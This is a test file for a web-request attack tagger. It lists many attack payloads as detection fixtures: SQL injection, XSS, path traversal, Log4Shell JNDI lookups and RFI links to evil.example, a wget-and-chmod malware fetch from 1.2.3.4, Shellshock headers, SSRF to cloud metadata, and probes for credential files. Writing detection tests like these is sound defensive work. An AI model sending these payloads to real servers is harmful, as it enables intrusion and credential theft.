import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { ATTACK_TAGS, type AttackTag } from '../../model/index.js';
import { createTagEngine, createTagger, loadSignatures } from './tagger.js';

const signatures = loadSignatures();
const tag = createTagger(signatures);
const slowTag = createTagger(signatures, { prefilter: false });
const BROWSER = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36';

/** [target, user agent, referer, tags that must be present] */
const ATTACKS: [string, string, string, AttackTag[]][] = [
  // sqli
  ['/item.php?id=1+UNION+SELECT+1,2,3--', BROWSER, '', ['sqli']],
  ['/item.php?id=1%20uNiOn%20aLl%20sElEcT%20null,null', BROWSER, '', ['sqli']],
  ['/item.php?id=1/**/union/**/select/**/user(),2', BROWSER, '', ['sqli']],
  ['/item.php?id=1/*!50000UNION*//*!50000SELECT*/1,2', BROWSER, '', ['sqli']],
  ['/item.php?id=1%2527%2520or%2520%25271%2527%253D%25271', BROWSER, '', ['sqli']],
  ['/login?user=admin%27%20OR%201=1--', BROWSER, '', ['sqli']],
  ['/login?user=admin%u0027%20or%20%u00271%u0027=%u00271', BROWSER, '', ['sqli']],
  ['/p?id=5+AND+1=1', BROWSER, '', ['sqli']],
  ['/p?id=5%20and%20sleep(5)', BROWSER, '', ['sqli']],
  ['/p?id=1;WAITFOR%20DELAY%20%270:0:5%27--', BROWSER, '', ['sqli']],
  ['/p?id=1+and+extractvalue(1,concat(0x7e,version()))', BROWSER, '', ['sqli']],
  ['/p?id=-1+union+select+table_name+from+information_schema.tables', BROWSER, '', ['sqli']],
  ['/p?id=1;drop%20table%20users', BROWSER, '', ['sqli']],
  ['/p?id=1%27)%20and%20ascii(substring(user(),1,1))>64--', BROWSER, '', ['sqli']],
  ['/p?q=x&sort=1%27%20order%20by%205--', BROWSER, '', ['sqli']],
  ['/p?id=1&x=select+username,password+from+users', BROWSER, '', ['sqli']],
  ['/', "Mozilla/5.0' and sleep(5)--", '', ['sqli']],
  // xss
  ['/search?q=%3Cscript%3Ealert(1)%3C/script%3E', BROWSER, '', ['xss']],
  ['/search?q=%253CsCrIpT%253Ealert(document.cookie)', BROWSER, '', ['xss']],
  ['/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E', BROWSER, '', ['xss']],
  ['/search?q=%3Csvg/onload=alert(1)%3E', BROWSER, '', ['xss']],
  ['/search?q=&#x3c;script&#x3e;alert(1)', BROWSER, '', ['xss']],
  ['/search?q=&lt;script&gt;prompt(1)', BROWSER, '', ['xss']],
  ['/go?url=javascript:alert(1)', BROWSER, '', ['xss']],
  ['/go?url=JaVaScRiPt%3Aalert%28document.domain%29', BROWSER, '', ['xss']],
  ['/p?name=x%22%20onmouseover=%22alert(1)', BROWSER, '', ['xss']],
  ['/p?name=%C0%BCscript%C0%BEalert(1)', BROWSER, '', ['xss']],
  ['/', BROWSER, 'https://evil.example/<script>alert(1)</script>', ['xss']],
  // path traversal
  ['/download?file=../../../../etc/passwd', BROWSER, '', ['path-traversal', 'sensitive-file']],
  ['/download?file=..%2F..%2F..%2Fetc%2Fpasswd', BROWSER, '', ['path-traversal']],
  ['/download?file=..%252f..%252f..%252fwindows/win.ini', BROWSER, '', ['path-traversal']],
  ['/static/%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc/passwd', BROWSER, '', ['path-traversal']],
  ['/static/..%5c..%5c..%5cwindows%5cwin.ini', BROWSER, '', ['path-traversal']],
  ['/cgi-bin/.%2e/.%2e/.%2e/bin/sh', BROWSER, '', ['path-traversal']],
  ['/app/..;/manager/html', BROWSER, '', ['path-traversal']],
  ['/view?page=/etc/passwd', BROWSER, '', ['path-traversal', 'sensitive-file']],
  ['/view?file=%e0%80%ae%e0%80%ae%e0%80%afetc/shadow', BROWSER, '', ['path-traversal']],
  // rfi
  ['/index.php?page=http://evil.example/shell.txt?', BROWSER, '', ['rfi']],
  ['/index.php?file=php://filter/convert.base64-encode/resource=index.php', BROWSER, '', ['rfi']],
  ['/index.php?page=data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8%2B', BROWSER, '', ['rfi']],
  ['/index.php?include=https://evil.example/x', BROWSER, '', ['rfi']],
  // command injection
  ['/ping?host=127.0.0.1;cat%20/etc/passwd', BROWSER, '', ['command-injection']],
  ['/ping?host=8.8.8.8|id', BROWSER, '', ['command-injection']],
  ['/ping?host=%60whoami%60', BROWSER, '', ['command-injection']],
  ['/ping?host=$(uname%20-a)', BROWSER, '', ['command-injection']],
  ['/ping?host=x;cat${IFS}/etc/passwd', BROWSER, '', ['command-injection']],
  ['/setup.cgi?cmd=wget%20http://1.2.3.4/mozi.m%20-O%20/tmp/x;chmod%20777%20/tmp/x', BROWSER, '', ['command-injection']],
  ['/shell?cd+/tmp;rm+-rf+*;wget+1.2.3.4/bins.sh', BROWSER, '', ['command-injection']],
  ['/cgi-bin/status', '() { :; }; /bin/bash -c "id"', '', ['command-injection']],
  ['/', BROWSER, '() { ignored; }; echo; /bin/id', ['command-injection']],
  // code injection
  ['/?x=${jndi:ldap://evil.example/a}', BROWSER, '', ['code-injection']],
  ['/?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D', BROWSER, '', ['code-injection']],
  ['/', '${${lower:j}ndi:${lower:l}dap://evil.example/a}', '', ['code-injection']],
  ['/', '${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}', '', ['code-injection']],
  ['/', 'Mozilla ${j${k8s:k5:-ND}i:ldap://x/}', '', ['code-injection']],
  ['/', BROWSER, '${jndi:dns://evil.example/}', ['code-injection']],
  ['/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5', BROWSER, '', ['code-injection']],
  ['/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', BROWSER, '', ['code-injection']],
  ['/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input', BROWSER, '', ['code-injection']],
  ['/page?name={{7*7}}', BROWSER, '', ['code-injection']],
  ['/page?name=%7B%7Bconfig.__class__.__init__.__globals__%7D%7D', BROWSER, '', ['code-injection']],
  ['/page?name=${7*7}', BROWSER, '', ['code-injection']],
  ['/page?name=<%25%3d+7*7+%25>', BROWSER, '', ['code-injection']],
  ['/struts/x.action?redirect:${%23a%3d(new%20java.lang.ProcessBuilder(new%20java.lang.String[]{%27id%27})).start()}', BROWSER, '', ['code-injection']],
  ['/x?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x', BROWSER, '', ['code-injection']],
  ['/api?data=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA', BROWSER, '', ['code-injection']],
  ['/api?data=O:8:%22stdClass%22:1:{s:1:%22a%22;i:1;}', BROWSER, '', ['code-injection']],
  ['/x?cmd=system(%27id%27)', BROWSER, '', ['code-injection']],
  ['/x?a=%3C%3Fphp%20echo%201;%20%3F%3E', BROWSER, '', ['code-injection']],
  // ssrf
  ['/fetch?url=http://169.254.169.254/latest/meta-data/iam/', BROWSER, '', ['ssrf']],
  ['/fetch?url=http://127.0.0.1:6379/', BROWSER, '', ['ssrf']],
  ['/fetch?url=gopher://127.0.0.1:25/_HELO', BROWSER, '', ['ssrf']],
  ['/fetch?url=http%3A%2F%2Fmetadata.google.internal%2FcomputeMetadata%2Fv1%2F', BROWSER, '', ['ssrf']],
  ['/fetch?url=http://[::1]/admin', BROWSER, '', ['ssrf']],
  ['/fetch?src=file:///etc/passwd', BROWSER, '', ['ssrf']],
  // sensitive files
  ['/.env', BROWSER, '', ['sensitive-file']],
  ['/api/.env.production', BROWSER, '', ['sensitive-file']],
  ['/.git/config', BROWSER, '', ['sensitive-file']],
  ['/%2egit/HEAD', BROWSER, '', ['sensitive-file']],
  ['/wp-config.php.bak', BROWSER, '', ['sensitive-file']],
  ['/wp-config.php~', BROWSER, '', ['sensitive-file']],
  ['/etc/passwd', BROWSER, '', ['sensitive-file']],
  ['/.ssh/id_rsa', BROWSER, '', ['sensitive-file']],
  ['/id_rsa', BROWSER, '', ['sensitive-file']],
  ['/.aws/credentials', BROWSER, '', ['sensitive-file']],
  ['/backup.zip', BROWSER, '', ['sensitive-file']],
  ['/www.tar.gz', BROWSER, '', ['sensitive-file']],
  ['/db/dump.sql', BROWSER, '', ['sensitive-file']],
  ['/phpinfo.php', BROWSER, '', ['sensitive-file']],
  ['/config.php.old', BROWSER, '', ['sensitive-file']],
  ['/server-status', BROWSER, '', ['sensitive-file']],
  ['/actuator/heapdump', BROWSER, '', ['sensitive-file']],
  ['/.DS_Store', BROWSER, '', ['sensitive-file']],
  ['/docker-compose.yml', BROWSER, '', ['sensitive-file']],
  // cms probes
  ['/wp-login.php', BROWSER, '', ['cms-probe']],
  ['/WP-LOGIN.PHP', BROWSER, '', ['cms-probe']],
  ['/blog/wp-admin/setup-config.php', BROWSER, '', ['cms-probe']],
  ['/xmlrpc.php', BROWSER, '', ['cms-probe']],
  ['/wp-includes/wlwmanifest.xml', BROWSER, '', ['cms-probe']],
  ['/wp-json/wp/v2/users', BROWSER, '', ['cms-probe']],
  ['/?author=1', BROWSER, '', ['cms-probe']],
  ['/administrator/', BROWSER, '', ['cms-probe']],
  ['/administrator/manifests/files/joomla.xml', BROWSER, '', ['cms-probe']],
  ['/CHANGELOG.txt', BROWSER, '', ['cms-probe']],
  ['/core/CHANGELOG.txt', BROWSER, '', ['cms-probe']],
  ['/phpmyadmin/index.php', BROWSER, '', ['cms-probe']],
  ['/pma/', BROWSER, '', ['cms-probe']],
  ['/adminer.php', BROWSER, '', ['cms-probe']],
  // scanner tools
  ['/', 'sqlmap/1.7.2#stable (https://sqlmap.org)', '', ['scanner-tool']],
  ['/', 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)', '', ['scanner-tool']],
  ['/', 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)', '', ['scanner-tool']],
  ['/', 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)', '', ['scanner-tool']],
  ['/', 'Mozilla/5.0 zgrab/0.x', '', ['scanner-tool']],
  ['/', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0 Safari/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)', '', ['scanner-tool']],
  ['/', 'WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)', '', ['scanner-tool']],
  ['/', 'DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)', '', ['scanner-tool']],
  ['/', 'gobuster/3.6', '', ['scanner-tool']],
  ['/', 'Fuzz Faster U Fool v2.1.0-dev', '', ['scanner-tool']],
  ['/', 'feroxbuster/2.10.4', '', ['scanner-tool']],
  ['/', 'Mozilla/5.0 (compatible; Acunetix Web Vulnerability Scanner)', '', ['scanner-tool']],
  ['/', 'Mozilla/5.0 (compatible; Nessus)', '', ['scanner-tool']],
  ['/', 'Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)', '', ['scanner-tool']],
  ['/', 'w3af.org', '', ['scanner-tool']],
  ['/', 'Mozilla/4.0 (Hydra)', '', ['scanner-tool']],
  ['/nessus_is_probing_you', BROWSER, '', ['scanner-tool']],
];

/** Ordinary requests of public sites: none may carry a tag. */
const BENIGN: [string, string, string][] = [
  ['/', BROWSER, ''],
  ['/blog/2024/10/script-tips', BROWSER, 'https://www.google.com/'],
  ['/search?q=select+a+candidate', BROWSER, ''],
  ['/search?q=union+station', BROWSER, ''],
  ['/search?q=union+select+committee', BROWSER, ''],
  ['/search?q=Rock+%27n%27+roll', BROWSER, ''],
  ['/search?q=O%27Reilly+and+sons', BROWSER, ''],
  ['/search?q=%22tom+and+jerry%22', BROWSER, ''],
  ['/search?q=javascript%3A+the+good+parts', BROWSER, ''],
  ['/search?q=how+to+drop+a+table+from+a+wedding', BROWSER, ''],
  ['/search?q=caf%C3%A9+cr%C3%A8me+br%C3%BBl%C3%A9e', BROWSER, ''],
  ['/search?q=%E4%B8%AD%E6%96%87%E6%90%9C%E7%B4%A2', BROWSER, ''],
  ['/fr/actualites/communique-de-presse?page=2&lang=fr', BROWSER, 'https://example.gc.ca/fr/'],
  ['/wp-content/uploads/2024/05/photo.jpg', BROWSER, 'https://example.org/blog/'],
  ['/wp-content/themes/twentytwentyfour/style.css?ver=1.2', BROWSER, ''],
  ['/wp-admin/admin-ajax.php', BROWSER, ''],
  ['/wp-cron.php?doing_wp_cron=1718000000.123', 'WordPress/6.5; https://example.org', ''],
  ['/downloads/annual-report-2023.zip', BROWSER, ''],
  ['/assets/app.3f9a1c.js', BROWSER, ''],
  ['/api/v1/items?fields=id,name,price&sort=-price', BROWSER, ''],
  ['/api/v1/items/42;jsessionid=ABC123', BROWSER, ''],
  ['/products?id=42&category=10&and=1', BROWSER, ''],
  ['/events/system-update-2024', BROWSER, ''],
  ['/docs/selecting-from-a-list', BROWSER, ''],
  ['/admin/login', BROWSER, ''],
  ['/robots.txt', 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', ''],
  ['/sitemap.xml', 'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)', ''],
  ['/', 'curl/8.5.0', ''],
  ['/', 'python-requests/2.31.0', ''],
  ['/', 'Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)', ''],
  ['/wiki/C%2B%2B', BROWSER, ''],
  ['/images/logo@2x.png', BROWSER, ''],
  ['/@someone/post/123', BROWSER, ''],
  ['/search?q=100%25+natural', BROWSER, 'https://duckduckgo.com/?q=vigie+%26+co'],
  ['/page?utm_source=newsletter&utm_medium=email&utm_campaign=spring-2024', BROWSER, 'https://mail.example.com/'],
  ['/calendar?from=2024-10-01T00:00:00Z&to=2024-10-31', BROWSER, ''],
  ['/.well-known/security.txt', BROWSER, ''],
  ['/favicon.ico', BROWSER, ''],
  ['/blog/what-is-an-env-file', BROWSER, ''],
  ['/search?q=how+to+use+.env+files', BROWSER, ''],
  ['/article?title=Cats+%26+Dogs', BROWSER, ''],
];

describe('tagger', () => {
  it.each(ATTACKS)('tags %s (ua %s, referer %s) with %j', (target, ua, referer, expected) => {
    const tags = tag('GET', target, ua, referer);
    for (const t of expected) expect(tags).toContain(t);
    expect(slowTag('GET', target, ua, referer)).toEqual(tags);
  });

  it.each(BENIGN)('leaves %s (ua %s) untagged', (target, ua, referer) => {
    expect(tag('GET', target, ua, referer)).toEqual([]);
    expect(slowTag('GET', target, ua, referer)).toEqual([]);
  });

  it('covers every attack tag in its table', () => {
    const covered = new Set(ATTACKS.flatMap(([, , , tags]) => tags));
    for (const t of ATTACK_TAGS) expect(covered).toContain(t);
  });

  it('returns sorted unique tags', () => {
    const tags = tag('GET', '/x?f=../../etc/passwd&q=<script>alert(1)</script>', 'sqlmap/1.7', '');
    expect(tags).toEqual([...new Set(tags)].sort());
    expect(tags).toEqual(['path-traversal', 'scanner-tool', 'sensitive-file', 'xss']);
  });

  it('gives the pre-filtered path the same verdict as the full pass (property)', () => {
    const vocabulary = [
      'wp-login.php', 'xmlrpc.php', 'etc/passwd', 'union', 'select', '1,2', 'from', 'users', 'and', 'or', '1=1',
      'id_rsa', 'backup.zip', 'phpinfo', 'author=1', '.php', '.bak', 'admin', 'pma', 'information_schema',
      'ro0ab', 'document.cookie', 'wget', 'chmod', '777', 'changelog.txt', 'administrator', '=//localhost/',
      'meta-data', 'classloader', 'java.lang.runtime', 'wp-config', 'actuator', 'server-status', 'dump.sql',
      'nessus', 'invokefunction', '__class__', 'select', '*', '%27', '%2e', '..', '/', '?', '&', '=', '+', '-', '_',
      '.', 'a', 'B', '1', 'CHANGELOG', 'Union', 'SELECT', '@@version', 'outfile', 'credentials', 'secrets.yml',
      '%20', '%2b', '%2B', '%c3%a9', '%C3%89', '%3c', '%2f', '%252e', 'nc+-e', 'wget+', '+and+', '+or+', '%20or%20',
    ];
    const piece = fc.constantFrom(...vocabulary);
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (parts) => {
        const target = '/' + parts.join('');
        expect(tag('GET', target, '', '')).toEqual(slowTag('GET', target, '', ''));
        const referer = 'https://search.example' + target;
        expect(tag('GET', '/', '', referer)).toEqual(slowTag('GET', '/', '', referer));
      }),
      { numRuns: 3000 },
    );
  });

  it('needs no special character to be right on words taken from the signatures themselves (property)', () => {
    const words = [...new Set(signatures.flatMap((sig) => sig.pattern.source.match(/[a-z][a-z0-9_.-]{2,}/g) ?? []))];
    const glue = ['/', '.', '=', '?', '&', '+', '-', '_', ',', '1', '42', '&&', '=//', '@@', 'x'];
    const piece = fc.oneof(fc.constantFrom(...words), fc.constantFrom(...glue));
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 10 }), (parts) => {
        const value = '/' + parts.join('');
        expect(tag('GET', value, '', '')).toEqual(slowTag('GET', value, '', ''));
        expect(tag('GET', '/', value.slice(1), '')).toEqual(slowTag('GET', '/', value.slice(1), ''));
      }),
      { numRuns: 20000 },
    );
  });

  it('gives pre-filtered user agents the same verdict as the full pass (property)', () => {
    const pieces = [
      'Mozilla/5.0 ', '(X11; Linux x86_64) ', 'sqlmap', 'SQLMap/1.7', 'Nmap Scripting Engine', 'nikto', 'zgrab', 'fuzz faster u fool',
      'script', 'javascript:alert(1)', 'sleep(5)', 'union select 1', 'system(', 'eval(', 'jndi:ldap://x', '${', '{{7*7}}',
      "' or 1=1", '() { :; };', '<script>', '%3c', '&lt;', '/*', '*/', '  ', 'a', ';', ':', ',', '+http://x/bot.html', 'Hydra',
    ];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { minLength: 1, maxLength: 8 }), (parts) => {
        const ua = parts.join('');
        expect(tag('GET', '/', ua, '')).toEqual(slowTag('GET', '/', ua, ''));
      }),
      { numRuns: 3000 },
    );
  });

  it('never throws, whatever the input (property)', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 300 }), fc.string({ maxLength: 100 }), fc.string({ maxLength: 100 }), (t, ua, ref) => {
        const tags = tag('GET', t, ua, ref);
        expect(Array.isArray(tags)).toBe(true);
        for (const x of tags) expect(ATTACK_TAGS).toContain(x);
      }),
      { numRuns: 2000 },
    );
  });

  it('keeps its verdict caches under their cap', () => {
    const engine = createTagEngine(signatures, { cacheSize: 100 });
    for (let i = 0; i < 5000; i++) engine.tag('GET', '/', `agent-${i}`, `https://x.example/?q=%27${i}`);
    expect(engine.cacheSizes().userAgent).toBeLessThanOrEqual(100);
    expect(engine.cacheSizes().referer).toBeLessThanOrEqual(100);
  });

  it('names the signatures that matched, for the detector', () => {
    const engine = createTagEngine(signatures);
    const ids = engine.match('GET', '/?id=1+union+select+1,2+from+users', '', '').map((s) => s.id);
    expect(ids).toContain('sqli-union-select');
    expect(ids).toContain('sqli-select-from');
  });
});
